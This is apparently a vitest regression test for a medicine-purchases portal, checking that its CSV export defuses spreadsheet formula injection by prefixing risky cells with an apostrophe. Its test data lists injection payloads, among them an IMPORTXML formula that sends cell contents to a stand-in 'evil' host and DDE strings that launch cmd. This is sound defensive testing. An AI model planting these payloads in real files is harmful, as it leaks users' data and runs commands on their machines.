import { purchasesAnswerSchema } from '@pharmatrace/domain';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { registerConfirmedClient } from './helpers/accounts';
import { createTestApp, type TestApp } from './helpers/app';

/**
 * Issue #35, formula injection: names and suppliers such as `=IMPORTXML(…)`, `+cmd|' /C calc'!A0`
 * and `@SUM(1+1)` were written verbatim into the purchases CSV export, which a spreadsheet then
 * runs. Every text cell starting with '=', '+', '-', '@', a tab or a carriage return is written
 * with a leading apostrophe (OWASP), in English (',') and French (';'). The purchases export is the
 * only CSV the portal writes.
 */

const payloads = [
  '=IMPORTXML(CONCAT("http://evil/?",A2),"//a")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3+cmd|calc',
  '\t=1+1',
  '\r=1+1',
];

let t: TestApp;
let token: string;
beforeAll(async () => {
  t = await createTestApp({ MEDICINE_SEARCHES_PER_MINUTE: '1000' });
  token = (await registerConfirmedClient(t)).accessToken;
});
afterAll(() => t.close());

/** A CSV cell of the purchases file (';'), quoted. */
const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

describe('POST /api/medicine/purchases/export as CSV', () => {
  it.each([
    { language: 'en', delimiter: ',' },
    { language: 'fr', delimiter: ';' },
  ])(
    'neutralises every formula a name or a supplier starts with ($language)',
    async ({ language, delimiter }) => {
      // The three, as a client's purchases file brings them (name and supplier).
      const file = [
        'name;quantity;unit_price;supplier',
        ...payloads.slice(0, 3).map((p) => `${quoted(p)};2;10;${quoted(p)}`),
      ].join('\n');
      const read = await t.request({
        method: 'POST',
        url: '/api/medicine/purchases',
        token,
        headers: { 'content-type': 'text/csv' },
        payload: file,
      });
      expect(read.statusCode, read.body).toBe(200);
      const answer = purchasesAnswerSchema.parse(read.json());
      expect(answer.lines.map((l) => l.input)).toEqual(payloads.slice(0, 3));
      // The others (a tab or CR first: a file's reader trims them) as an answer the export is sent.
      const lines = [
        ...answer.lines,
        ...payloads.slice(3).map((p, i) => ({ ...answer.lines[0]!, line: 10 + i, input: p, supplier: p })),
      ];

      const res = await t.request({
        method: 'POST',
        url: '/api/medicine/purchases/export',
        token,
        headers: { 'accept-language': language },
        payload: { format: 'csv', answer: { ...answer, lines } },
      });
      expect(res.statusCode, res.body).toBe(200);
      // Strict: every line as wide as the header (purchases-export-csv.test.ts).
      const rows = parse(res.body.replace(/^\uFEFF/, ''), { delimiter }) as string[][];
      const cells = rows.slice(1).flat();
      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      for (const payload of payloads) {
        // The input and the supplier columns: the text as typed, behind an apostrophe.
        expect(cells.filter((cell) => cell === `'${payload}`)).toHaveLength(2);
      }
      // Numbers are left as numbers.
      expect(rows[1]).toContain('2');
    },
  );
});
